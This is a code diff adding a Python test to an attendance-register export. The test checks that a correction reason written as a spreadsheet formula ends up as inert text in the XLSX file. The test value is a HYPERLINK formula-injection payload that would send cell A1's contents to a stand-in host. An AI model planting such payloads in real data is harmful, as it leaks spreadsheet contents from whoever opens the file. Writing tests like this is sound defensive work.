@@ -524,3 +524,16 @@ def test_a_day_no_longer_expected_is_not_an_absence_in_the_alerts(week: Week) ->
     with week.store.session() as s:
         result = queue_absence_alerts(s, week.org_id, RULES, today=date(2026, 11, 27))
     assert (result.streaks, result.queued) == (0, 0)
+
+
+def test_a_correction_reason_that_looks_like_a_formula_is_plain_text_in_the_xlsx(week: Week) -> None:
+    import io
+
+    week.sync()
+    reason = '=HYPERLINK("http://example.invalid/?d="&A1,"Lue lisää")'
+    correct_attendance(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", reason, week.coordinator_id)
+    reg = register_for_month(week.store, "testorg", "2026-11", rules=RULES)
+    ws = load_workbook(io.BytesIO(to_xlsx(reg)))["Korjaukset"]
+    cell = ws.cell(2, 5)
+    assert cell.data_type != "f"
+    assert cell.value == "'" + reason
